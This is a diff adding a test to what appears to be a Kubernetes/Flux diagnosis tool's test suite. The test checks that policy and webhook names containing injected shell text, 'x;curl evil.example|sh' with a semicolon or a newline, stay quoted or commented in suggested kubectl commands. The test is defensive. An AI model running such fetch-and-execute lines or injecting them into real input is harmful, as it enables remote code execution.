@@ -479,6 +479,21 @@ test('a FluxInstance that a webhook kept from being Ready is asked to try again 
   expect(await stepsOf(webhook)).toEqual([])
 })
 
+test.each([
+  [
+    "ValidatingAdmissionPolicy 'x;curl evil.example|sh' with binding 'all' denied request: no",
+    "kubectl get validatingadmissionpolicy 'x;curl evil.example|sh' --output yaml",
+  ],
+  [
+    'admission webhook "x\ncurl evil.example|sh" denied the request: no',
+    'kubectl get validatingwebhookconfigurations,mutatingwebhookconfigurations   # the webhook x curl evil.example|sh',
+  ],
+])('what a condition calls a policy is one word of the command, and no line of its own: %j', (reason, command) => {
+  const evidence = { ...healthy, ...seen('controllers', { object: 'Deployment flux-system/x', reason }) }
+  const remedy = `exclude Flux's namespace from it, or change Git to what it allows: ${command}`
+  expect(() => diagnose(evidence)[0]?.mode.remedy(remediesWith({ evidence }))).toThrow(expect.objectContaining({ remedy }))
+})
+
 test("a branch that another source than Flux's own fetches is pushed to where that fetches from", () => {
   const shop = parseFluxObject({ metadata: { namespace: 'apps', name: 'shop' }, spec: {} }, fluxKinds.gitRepository, true)
   const { probed } = seen('sources', { object: shop.name, reason: "couldn't find remote ref" })
